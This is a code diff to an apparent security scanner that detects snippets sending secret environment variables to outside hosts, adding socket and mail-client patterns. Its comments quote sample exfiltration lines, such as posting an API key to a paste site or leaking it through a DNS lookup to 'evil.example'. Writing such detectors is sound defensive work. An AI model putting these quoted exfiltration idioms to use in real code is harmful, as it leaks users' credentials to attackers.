@@ -199,18 +199,21 @@ export function checkSentOut(inv: Invocation): Finding[] {
 
 const WHOLE = 'ENV (every environment variable)';
 const WHOLE_ENVIRONMENT = /\bENV\.(to_h|to_hash|to_a|inspect|each)\b|\\?%ENV\b|\bgetenv\(\s*\)|\b(dict|str|repr|json\.dumps)\(\s*os\.environ\s*\)|JSON\.stringify\(\s*process\.env\s*\)|\bDeno\.env\.toObject\(\s*\)|\$_ENV\b|\$_SERVER\b/;
+const SOCKET_CLIENT = /\.connect\s*\(|\b(smtplib\.SMTP(_SSL)?|socket\.create_connection|createConnection|IO::Socket|Net::(SMTP|FTP|Telnet)|TCPSocket|fsockopen|stream_socket_client|HTTPS?Connection|ftplib\.FTP|telnetlib)\b/;
 const DNS_LOOKUP = /\b(gethostbyname|getaddrinfo|Resolv|resolver\.(resolve|query)|InetAddress\.getByName|net\.LookupHost)\b|\bdns\b[^;]{0,40}\.(resolve\w*|lookup)\s*\(/;
 
 /** `urlopen('https://paste…', data=os.environ['OPENAI_API_KEY'])`: a snippet sending a secret-named variable to a foreign host. */
 export function checkSnippetSentOut(snippet: CodeSnippet): Finding[] {
   const text = snippet.text;
-  const variables = [...text.matchAll(/(?:environ(?:\.get)?\s*[[(]\s*|getenv\(\s*|process\.env\.|process\.env\[\s*|ENV\[\s*|Deno\.env\.get\(\s*)['"]?([A-Za-z_][A-Za-z0-9_]*)/g)].map((m) => m[1] ?? '').filter(isSecretVariableName);
+  const variables = [...text.matchAll(/(?:environ(?:\.get)?\s*[[(]\s*|getenv\(\s*|process\.env\.|process\.env\[\s*|ENV\[\s*|\$ENV\{\s*|Deno\.env\.get\(\s*)['"]?([A-Za-z_][A-Za-z0-9_]*)/g)].map((m) => m[1] ?? '').filter(isSecretVariableName);
   // The whole environment handed over (`ENV.to_h`, `%ENV`, `getenv()`, `dict(os.environ)`, `process.env` whole): every secret in it.
   if (WHOLE_ENVIRONMENT.test(text)) variables.push(WHOLE);
   if (variables.length === 0) return [];
   const hosts = [...text.matchAll(/(?:https?|wss?):\/\/([^/:?#'"\s]+)/g)].map((m) => (m[1] ?? '').toLowerCase());
   // A name looked up in DNS (`gethostbyname(key + '.evil.example')`): the suffix it is joined to is the receiving zone.
   if (DNS_LOOKUP.test(text)) for (const m of text.matchAll(/['"]\.([a-z0-9-]+(?:\.[a-z0-9-]+)+)['"]/gi)) hosts.push((m[1] ?? '').toLowerCase());
+  // A socket or mail client given a host name (`smtplib.SMTP('mx.example')`, `net.connect(80, 'h.example')`): that host receives what is written.
+  if (SOCKET_CLIENT.test(text)) for (const m of text.matchAll(/['"]((?:[a-z0-9-]+\.)+[a-z]{2,})(?::\d+)?['"]/gi)) hosts.push((m[1] ?? '').toLowerCase());
   for (const variable of variables) {
     for (const host of hosts) {
       const own = variable === WHOLE ? (/^(localhost|127\.[\d.]+|\[::1\])$/.test(host) ? true : false) : belongsTo(variable, { host });
